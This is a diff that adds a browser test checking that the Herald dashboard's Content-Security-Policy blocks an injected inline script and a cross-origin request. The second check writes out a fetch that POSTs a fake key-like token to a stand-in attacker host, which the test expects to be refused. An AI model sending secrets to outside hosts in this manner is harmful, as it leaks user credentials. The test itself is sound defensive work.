@@ -453,4 +453,26 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     const unexpected = problems.filter((p) => !/Failed to load resource: net::ERR_NAME_NOT_RESOLVED|cdn\.example\.com/.test(p) && !/status of 4\d\d/.test(p))
     expect(unexpected).toEqual([])
   })
+  // Last: the violations it provokes are logged to the console on purpose.
+  it('enforces its Content-Security-Policy: an injected inline script does not run, and no other origin can be reached', async () => {
+    await page.goto(`${herald.url}/dashboard`)
+    await page.getByRole('heading', { name: 'Sign in to Herald' }).waitFor()
+    const inline = await page.evaluate(() => new Promise<string>((resolve) => {
+      document.addEventListener('securitypolicyviolation', (event) => resolve(`blocked by ${event.effectiveDirective}`), { once: true })
+      const script = document.createElement('script')
+      script.textContent = 'window.injected = true'
+      document.body.append(script)
+      setTimeout(() => resolve((window as unknown as { injected?: boolean }).injected ? 'ran' : 'nothing happened'), 2000)
+    }))
+    expect(inline).toBe('blocked by script-src-elem')
+    // The violation event tells a CSP refusal apart from a name that does not resolve.
+    const outside = await page.evaluate(async () => {
+      const violation = new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
+      })
+      const outcome = await fetch('https://attacker.example.com/collect', { method: 'POST', body: 'hk_live_x' }).then(() => 'sent', () => 'failed')
+      return { outcome, directive: await Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve('none'), 1000))]) }
+    })
+    expect(outside).toEqual({ outcome: 'failed', directive: 'connect-src' })
+  })
 })
